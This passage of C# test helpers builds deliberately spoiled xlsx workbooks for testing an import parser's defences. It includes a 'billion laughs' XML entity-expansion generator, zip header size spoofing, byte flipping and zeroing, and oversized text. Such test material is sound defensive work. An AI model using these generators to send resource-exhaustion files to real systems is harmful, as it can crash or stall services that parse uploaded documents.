        var entities = new StringBuilder("<!ENTITY lol0 \"lol\">");
        for (var i = 1; i <= 9; i++)
        {
            entities.Append(CultureInfo.InvariantCulture, $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}\">");
        }

        return $"{RawWorksheet.Declaration}<!DOCTYPE worksheet [{entities}]>";
    }

    private static void Repeat(TextWriter writer, char c, int count)
    {
        var chunk = new string(c, 1 << 16);
        for (var written = 0; written < count; written += chunk.Length)
        {
            writer.Write(chunk);
        }
    }

    private static string LongText(Random random)
    {
        var text = new StringBuilder(LongTextLength);
        while (text.Length < LongTextLength)
        {
            text.Append((char)random.Next(0x4E00, 0x9FA5));
            if (random.Next(20) == 0)
            {
                text.Append(' ');
            }
        }

        return text.ToString(0, LongTextLength);
    }

    private static string FullWidth(string text) => new([.. text.Select(c => c switch
    {
        ' ' => '\u3000',
        >= '!' and <= '~' => (char)(c + 0xFEE0),
        _ => c,
    })]);

    private static byte[] Noise(Random random, int length)
    {
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }

    private static byte[] Gzip(byte[] content)
    {
        using var buffer = new MemoryStream();
        using (var gzip = new GZipStream(buffer, CompressionLevel.Optimal, leaveOpen: true))
        {
            gzip.Write(content);
        }

        return buffer.ToArray();
    }

    private static byte[] Flip(byte[] content, Random random, int from, int to, int count)
    {
        var copy = (byte[])content.Clone();
        for (var i = 0; i < count; i++)
        {
            copy[random.Next(from, to)] ^= (byte)random.Next(1, 256);
        }

        return copy;
    }

    private static byte[] Zero(byte[] content, int from, int count)
    {
        var copy = (byte[])content.Clone();
        Array.Clear(copy, from, Math.Min(count, copy.Length - from));
        return copy;
    }

    /// <summary>Where the central directory starts, from the end-of-central-directory record (no archive comment).</summary>
    private static int CentralDirectoryOffset(byte[] zip)
        => (int)BinaryPrimitives.ReadUInt32LittleEndian(zip.AsSpan(EndOfCentralDirectory(zip) + 16));

    private static int EndOfCentralDirectory(byte[] zip) => zip.AsSpan().LastIndexOf([(byte)0x50, (byte)0x4B, (byte)0x05, (byte)0x06]);

    /// <summary>Rewrites a part's declared uncompressed size in its local header and its central-directory entry.</summary>
    private static byte[] DeclareSize(byte[] zip, string part, uint size)
    {
        var copy = (byte[])zip.Clone();
        var entries = BinaryPrimitives.ReadUInt16LittleEndian(copy.AsSpan(EndOfCentralDirectory(copy) + 10));
        var at = CentralDirectoryOffset(copy);
        for (var i = 0; i < entries; i++)
        {
            var nameLength = BinaryPrimitives.ReadUInt16LittleEndian(copy.AsSpan(at + 28));
            var extraLength = BinaryPrimitives.ReadUInt16LittleEndian(copy.AsSpan(at + 30));
            var commentLength = BinaryPrimitives.ReadUInt16LittleEndian(copy.AsSpan(at + 32));
            if (Encoding.UTF8.GetString(copy, at + 46, nameLength) == part)
            {
                var local = (int)BinaryPrimitives.ReadUInt32LittleEndian(copy.AsSpan(at + 42));
                BinaryPrimitives.WriteUInt32LittleEndian(copy.AsSpan(at + 24), size);
                BinaryPrimitives.WriteUInt32LittleEndian(copy.AsSpan(local + 22), size);
            }

            at += 46 + nameLength + extraLength + commentLength;
        }

        return copy;
    }

    private static byte[] EditPart(byte[] xlsx, string part, Func<string, string> edit)
        => Repack(xlsx, (name, data) => name == part ? [Encoding.UTF8.GetBytes(edit(Encoding.UTF8.GetString(data)))] : [data]);

    /// <summary>Copies a package entry by entry: <paramref name="transform"/> gives each entry's new contents (none drops it, two repeat it).</summary>
    private static byte[] Repack(byte[] xlsx, Func<string, byte[], IReadOnlyList<byte[]>> transform, IEnumerable<string>? emptyParts = null)
    {
        using var source = new ZipArchive(new MemoryStream(xlsx), ZipArchiveMode.Read);
        using var buffer = new MemoryStream();
        using (var target = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var entry in source.Entries)
            {
                using var input = entry.Open();
                using var original = new MemoryStream();
                input.CopyTo(original);
                foreach (var content in transform(entry.FullName, original.ToArray()))
                {
                    using var output = target.CreateEntry(entry.FullName).Open();
                    output.Write(content);
                }
            }

            foreach (var name in emptyParts ?? [])
            {
                target.CreateEntry(name, CompressionLevel.NoCompression).Open().Dispose();
            }
        }

        return buffer.ToArray();
    }

    private sealed record Spoiled(string Variant, HostileOutcome Expected, byte[] Content, string? BlobName = null);

    /// <summary>A workbook before it is spoiled: its sheet, headers and good rows, and which columns hold a code, the price, a count and free text.</summary>
    private sealed record Draft(SheetSpec Spec, string SheetName, string[] Headers, List<object?[]> Rows, int Code, int Price, int Count, int Text)
    {
        public bool IsBid => ReferenceEquals(Spec, WorkbookSchemas.Bids);

        public IEnumerable<IReadOnlyList<object?>> Table => [Headers, .. Rows];

        public Draft With(int row, int column, object? value)
            => this with { Rows = [.. Rows.Select((r, i) => i == row ? r.Select((c, j) => j == column ? value : c).ToArray() : r)] };

        public Draft MapColumn(int column, Func<int, object?, object?> map)
            => this with { Rows = [.. Rows.Select((r, i) => r.Select((c, j) => j == column ? map(i, c) : c).ToArray())] };

        public Draft WithHeader(int column, string header) => this with { Headers = [.. Headers.Select((h, i) => i == column ? header : h)] };

        public byte[] ToXlsx(IReadOnlyList<string>? titles = null)
            => WorkbookWriter.ToBytes([new SheetTable(SheetName, [.. Headers.Select(h => new TableColumn(h ?? string.Empty))], Rows) { TitleLines = titles ?? [] }]);

        public byte[] ToRaw(string afterSheetData = "")
            => MinimalXlsx.Build([RawWorksheet.FromRows(SheetName, Table) with { AfterSheetData = afterSheetData }]);
    }
}
